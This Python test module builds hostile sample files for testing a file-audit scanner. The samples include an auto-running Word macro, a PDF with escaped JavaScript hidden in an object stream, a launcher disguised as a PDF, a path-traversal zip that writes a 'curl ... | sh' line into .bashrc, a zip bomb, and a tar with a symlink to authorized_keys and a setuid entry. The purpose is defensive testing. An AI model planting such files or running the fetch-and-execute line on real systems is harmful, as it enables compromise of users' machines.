"""Hostile and harmless sample files for the audit tests, built at test time from bytes.

Nothing here is a committed binary: an OLE compound file with a real VBA project (MS-CFB
and MS-OVBA written out by hand), a PDF with a FlateDecode object stream and an
cross-reference stream, zip and tar archives with hostile entries, a zip bomb built by
streaming. The tests at the bottom check that the builders produce what real parsers
(olefile, olevba, pypdf, zipfile, tarfile) accept, so a scanner test that passes is
passing on a real file, not on a broken one.
"""

from __future__ import annotations

import functools
import io
import itertools
import os
import shutil
import stat
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import olefile
from oletools.olevba import VBA_Parser
from PIL import Image
from pypdf import PdfReader, PdfWriter

# --- MS-CFB (OLE compound file), version 3, every stream in the mini stream ---------------

_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
_NONE = 0xFFFFFFFF


def _cfb_sort_key(name: str) -> tuple[int, str]:
    return (len(name), name.upper())


@dataclass
class _Entry:
    name: str
    kind: int  # 1 storage, 2 stream, 5 root
    data: bytes = b""
    children: list[int] = field(default_factory=list)
    start: int = 0
    size: int = 0


def build_cfb(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file holding `streams` ("VBA/dir" style paths), each under 4 KiB."""
    entries = [_Entry("Root Entry", 5)]
    index: dict[str, int] = {"": 0}
    for path, data in streams.items():
        assert len(data) < 4096, "this writer keeps every stream in the mini stream"
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            key = "/".join(parts[:depth])
            if key in index:
                continue
            is_stream = depth == len(parts)
            index[key] = len(entries)
            entries.append(
                _Entry(parts[depth - 1], 2 if is_stream else 1, data if is_stream else b"")
            )
            entries[index["/".join(parts[: depth - 1])]].children.append(index[key])
    # the mini stream: every stream padded to 64-byte mini sectors, chained in the mini FAT
    mini = bytearray()
    minifat: list[int] = []
    for e in entries[1:]:
        e.size = len(e.data)
        if e.kind != 2 or not e.data:
            e.start = _END if e.kind == 2 else 0
            continue
        first = len(mini) // 64
        n = (len(e.data) + 63) // 64
        mini += e.data.ljust(n * 64, b"\0")
        minifat += [first + i + 1 for i in range(n - 1)] + [_END]
        e.start = first

    def sectors(n_bytes: int) -> int:
        return (n_bytes + 511) // 512

    # regular sectors, in order: mini stream, mini FAT, directory, one FAT sector
    n_mini = sectors(len(mini))
    n_minifat = sectors(len(minifat) * 4)
    n_dir = sectors(len(entries) * 128)
    assert n_mini + n_minifat + n_dir + 1 <= 128
    fat = [_FREE] * 128
    pos = 0
    starts = []
    for count in (n_mini, n_minifat, n_dir):
        starts.append(pos if count else _END)
        for i in range(count):
            fat[pos + i] = pos + i + 1 if i < count - 1 else _END
        pos += count
    fat[pos] = _FAT
    fat_sector = pos
    mini_start, minifat_start, dir_start = starts
    entries[0].start = mini_start
    entries[0].size = len(mini)

    # siblings are chained through right pointers, in MS-CFB's name order
    first_child: dict[int, int] = {}
    right: dict[int, int] = {}
    for i, e in enumerate(entries):
        kids = sorted(e.children, key=lambda c: _cfb_sort_key(entries[c].name))
        if kids:
            first_child[i] = kids[0]
        for a, b in itertools.pairwise(kids):
            right[a] = b

    def dir_entry(i: int) -> bytes:
        e = entries[i]
        encoded = e.name.encode("utf-16-le") + b"\0\0"
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBB", len(encoded), e.kind, 1)
            + struct.pack("<III", _NONE, right.get(i, _NONE), first_child.get(i, _NONE))
            + bytes(16 + 4 + 16)
            + struct.pack("<IQ", e.start, e.size)
        )

    unused = b"\0" * 64 + struct.pack("<HBBIII", 0, 0, 0, _NONE, _NONE, _NONE) + bytes(48)
    directory = b"".join(dir_entry(i) for i in range(len(entries)))
    directory += unused * (n_dir * 4 - len(entries))
    header = (
        bytes.fromhex("d0cf11e0a1b11ae1")
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, 1, dir_start, 0, 4096, minifat_start, n_minifat,
                      _END, 0)
        + struct.pack("<I", fat_sector)
        + struct.pack("<I", _FREE) * 108
    )  # fmt: skip
    assert len(header) == 512
    body = bytes(mini).ljust(n_mini * 512, b"\0")
    body += b"".join(struct.pack("<I", v) for v in minifat).ljust(n_minifat * 512, b"\xff")
    body += directory
    body += b"".join(struct.pack("<I", v) for v in fat)
    return header + body


# --- MS-OVBA: a VBA project with one module -------------------------------------------------


def ovba_compress(data: bytes) -> bytes:
    """A valid compressed container using literal tokens only (no copy tokens needed)."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 4096):
        chunk = data[start : start + 4096]
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body += b"\x00" + chunk[i : i + 8]
        assert len(body) + 2 <= 4098, "keep sources under ~3.6 KiB per chunk"
        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body
    return bytes(out)


def _rec(rid: int, payload: bytes) -> bytes:
    return struct.pack("<HI", rid, len(payload)) + payload


def vba_dir_stream(module: str) -> bytes:
    m = module.encode()
    mu = module.encode("utf-16-le")
    d = b"".join(
        [
            _rec(0x0001, struct.pack("<I", 1)),  # SYSKIND win32
            _rec(0x0002, struct.pack("<I", 0x409)),  # LCID
            _rec(0x0014, struct.pack("<I", 0x409)),  # LCIDINVOKE
            _rec(0x0003, struct.pack("<H", 1252)),  # CODEPAGE
            _rec(0x0004, b"Project"),
            _rec(0x0005, b"") + _rec(0x0040, b""),  # DOCSTRING + unicode
            _rec(0x0006, b"") + _rec(0x003D, b""),  # HELPFILEPATH 1 + 2
            _rec(0x0007, struct.pack("<I", 0)),  # HELPCONTEXT
            _rec(0x0008, struct.pack("<I", 0)),  # LIBFLAGS
            struct.pack("<HIIH", 0x0009, 4, 1, 0),  # VERSION
            _rec(0x000C, b"") + _rec(0x003C, b""),  # CONSTANTS + unicode
            _rec(0x000F, struct.pack("<H", 1)),  # MODULES count
            _rec(0x0013, struct.pack("<H", 0xFFFF)),  # PROJECTCOOKIE
            _rec(0x0019, m),  # MODULENAME
            _rec(0x0047, mu),  # MODULENAMEUNICODE
            _rec(0x001A, m) + _rec(0x0032, mu),  # MODULESTREAMNAME + unicode
            _rec(0x001C, b"") + _rec(0x0048, b""),  # MODULEDOCSTRING + unicode
            _rec(0x0031, struct.pack("<I", 0)),  # MODULEOFFSET: source starts at 0
            _rec(0x001E, struct.pack("<I", 0)),  # MODULEHELPCONTEXT
            _rec(0x002C, struct.pack("<H", 0xFFFF)),  # MODULECOOKIE
            struct.pack("<HI", 0x0021, 0),  # MODULETYPE procedural
            struct.pack("<HI", 0x002B, 0),  # MODULE terminator
            struct.pack("<HI", 0x0010, 0),  # dir terminator
        ]
    )
    return ovba_compress(d)


def vba_project_bin(source: str, module: str = "Module1") -> bytes:
    code = f'Attribute VB_Name = "{module}"\r\n{source}'.encode("cp1252")
    project = (
        'ID="{00000000-0000-0000-0000-000000000000}"\r\n'
        f"Module={module}\r\n"
        'Name="Project"\r\nHelpContextID="0"\r\nVersionCompatible32="393222000"\r\n\r\n'
        "[Host Extender Info]\r\n"
        "&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n\r\n"
        f"[Workspace]\r\n{module}=0, 0, 0, 0, C\r\n"
    ).encode()
    return build_cfb(
        {
            "PROJECT": project,
            "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
            "VBA/dir": vba_dir_stream(module),
            f"VBA/{module}": ovba_compress(code),
        }
    )


AUTOOPEN_DROPPER = 'Sub AutoOpen()\r\n    Shell "sh -c true"\r\nEnd Sub\r\n'
AUTOOPEN_ONLY = 'Sub AutoOpen()\r\n    MsgBox "hello"\r\nEnd Sub\r\n'

_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_DOC = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>"
)


def build_docx(path: Path, vba_source: str | None = None, template_url: str | None = None) -> Path:
    """A Word document; with a VBA project (docm) and/or a remote attached template."""
    doc_rels = [
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    ]
    if vba_source is not None:
        doc_rels.append(
            '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/'
            'relationships/vbaProject" Target="vbaProject.bin"/>'
        )
    doc_rels.append("</Relationships>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CT)
        zf.writestr("_rels/.rels", _RELS)
        zf.writestr("word/document.xml", _DOC)
        zf.writestr("word/_rels/document.xml.rels", "".join(doc_rels))
        if vba_source is not None:
            zf.writestr("word/vbaProject.bin", vba_project_bin(vba_source))
        if template_url is not None:
            zf.writestr(
                "word/settings.xml",
                '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
                '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
            )
            zf.writestr(
                "word/_rels/settings.xml.rels",
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
                '.org/officeDocument/2006/relationships/attachedTemplate" '
                f'Target="{template_url}" TargetMode="External"/></Relationships>',
            )
    return path


def build_encrypted_office(path: Path) -> Path:
    """The container of a password-protected OOXML file (MS-OFFCRYPTO): an OLE file with the
    EncryptionInfo and EncryptedPackage streams (agile encryption header, random package)."""
    info = struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
        b'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
        b'saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>'
    )
    package = struct.pack("<Q", 2048) + os.urandom(2048)
    path.write_bytes(build_cfb({"EncryptionInfo": info, "EncryptedPackage": package[:4000]}))
    return path


# --- PDF ------------------------------------------------------------------------------------


def build_pdf_js_in_object_stream(path: Path) -> Path:
    """A PDF whose catalog, pages and a JavaScript OpenAction live in a FlateDecode object
    stream, with /JavaScript and /JS spelled with #-escapes; found through an XRef stream."""
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        5: b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    }
    order = [1, 2, 3, 5]
    bodies = b""
    offsets = []
    for n in order:
        offsets.append(len(bodies))
        bodies += objs[n] + b"\n"
    header = b" ".join(f"{n} {o}".encode() for n, o in zip(order, offsets, strict=True)) + b"\n"
    raw = header + bodies
    packed = zlib.compress(raw)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    off4 = len(out)
    out += (
        (
            f"4 0 obj\n<< /Type /ObjStm /N {len(order)} /First {len(header)} "
            f"/Filter /FlateDecode /Length {len(packed)} >>\nstream\n"
        ).encode()
        + packed
        + b"\nendstream\nendobj\n"
    )
    off6 = len(out)
    rows = [
        (0, 0, 0xFFFF),
        (2, 4, 0),
        (2, 4, 1),
        (2, 4, 2),
        (1, off4, 0),
        (2, 4, 3),
        (1, off6, 0),
    ]
    xref = b"".join(struct.pack(">BIH", *r) for r in rows)
    out += (
        (
            f"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length {len(xref)} >>\n"
            "stream\n"
        ).encode()
        + xref
        + b"\nendstream\nendobj\n"
    )
    out += f"startxref\n{off6}\n%%EOF\n".encode()
    path.write_bytes(bytes(out))
    return path


def build_clean_pdf(path: Path) -> Path:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_metadata({"/Title": "A harmless page"})
    with open(path, "wb") as f:
        writer.write(f)
    return path


# --- other files ----------------------------------------------------------------------------


def build_elf_named_pdf(path: Path) -> Path:
    true = shutil.which("true") or "/bin/true"
    with open(true, "rb") as src:
        path.write_bytes(src.read())
    path.chmod(0o644)  # the disguise alone, without an exec bit
    return path


def build_desktop_launcher(path: Path) -> Path:
    path.write_text(
        "[Desktop Entry]\nType=Application\nName=Invoice.pdf\nIcon=application-pdf\n"
        "Exec=sh -c 'echo pwned > /tmp/pwned'\n"
    )
    return path


def build_shebang_script(path: Path) -> Path:
    path.write_text("#!/bin/sh\necho installing\n")
    path.chmod(0o755)
    return path


def build_png(path: Path) -> Path:
    Image.new("RGB", (16, 16), (200, 30, 30)).save(path, "PNG")
    return path


def build_text(path: Path) -> Path:
    path.write_text("Minutes of the meeting.\nNothing to see here.\n")
    return path


def build_clean_zip(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("notes/readme.txt", "hello\n" * 20)
        zf.writestr("notes/data.csv", "a,b\n1,2\n")
    return path


def build_traversal_zip(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("ok.txt", "fine\n")
        zf.writestr("../../.bashrc", "curl http://198.51.100.9/x | sh\n")
    return path


@functools.cache
def zip_bomb_bytes(megabytes: int = 600) -> bytes:
    """`megabytes` MiB of zeros in one deflated member, written by streaming (the zeros are
    never in memory at once). Level 1: ~2.7 MB for 600 MiB (ratio ~230) in about a second;
    level 9 gives ~600 KB but takes three times as long. Built once per test run."""
    zeros = bytes(1 << 20)
    buf = io.BytesIO()
    with (
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf,
        zf.open("zeros.bin", "w", force_zip64=True) as f,
    ):
        for _ in range(megabytes):
            f.write(zeros)
    return buf.getvalue()


def build_zip_bomb(path: Path, megabytes: int = 600) -> Path:
    path.write_bytes(zip_bomb_bytes(megabytes))
    return path


def build_hostile_tar(path: Path, compression: str = "gz") -> Path:
    def add(tf: tarfile.TarFile, name: str, data: bytes = b"", **kw: object) -> None:
        ti = tarfile.TarInfo(name)
        ti.size = len(data)
        for k, v in kw.items():
            setattr(ti, k, v)
        tf.addfile(ti, io.BytesIO(data) if data else None)

    with tarfile.open(path, f"w:{compression}") as tf:  # type: ignore[call-overload]
        add(tf, "project/readme.txt", b"read me\n")
        add(tf, "project/keys", type=tarfile.SYMTYPE, linkname="../../.ssh/authorized_keys")
        add(tf, "project/disk", type=tarfile.CHRTYPE, devmajor=8, devminor=0)
        add(tf, "project/helper", b"#!/bin/sh\nid\n", mode=0o4755)
    return path


def build_nested_zip(path: Path, depth: int, inner: bytes, inner_name: str) -> Path:
    data, name = inner, inner_name
    for level in range(depth):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr(name, data)
        data, name = buf.getvalue(), f"level{level}.zip"
    path.write_bytes(data)
    return path


# --- the builders make real files -----------------------------------------------------------


def test_vba_project_is_a_real_ole_file_olevba_reads(tmp_path: Path) -> None:
    blob = vba_project_bin(AUTOOPEN_DROPPER)
    assert olefile.isOleFile(data=blob)
    with olefile.OleFileIO(blob) as ole:
        assert ole.exists("VBA/dir") and ole.exists("PROJECT")
    vba = VBA_Parser("vbaProject.bin", data=blob)
    try:
        codes = [code for _, _, _, code in vba.extract_macros()]
    finally:
        vba.close()
    assert any("Sub AutoOpen()" in c and "Shell" in c for c in codes)


def test_docm_holds_the_vba_project(tmp_path: Path) -> None:
    path = build_docx(tmp_path / "invoice.docm", AUTOOPEN_DROPPER)
    vba = VBA_Parser(str(path))
    try:
        assert vba.detect_vba_macros()
    finally:
        vba.close()


def test_object_stream_pdf_is_read_by_pypdf(tmp_path: Path) -> None:
    path = build_pdf_js_in_object_stream(tmp_path / "doc.pdf")
    reader = PdfReader(str(path), strict=True)
    assert len(reader.pages) == 1
    action = reader.trailer["/Root"]["/OpenAction"].get_object()  # type: ignore[index]
    assert action["/S"] == "/JavaScript"  # pypdf decoded the #-escapes
    assert b"JavaScript" not in path.read_bytes()  # and they are invisible in the raw file


def test_archives_are_readable(tmp_path: Path) -> None:
    with tarfile.open(build_hostile_tar(tmp_path / "t.tar.gz")) as tf:
        members = {m.name: m for m in tf.getmembers()}
    assert members["project/keys"].issym() and members["project/disk"].ischr()
    assert members["project/helper"].mode & stat.S_ISUID
    with zipfile.ZipFile(build_traversal_zip(tmp_path / "z.zip")) as zf:
        assert "../../.bashrc" in zf.namelist()
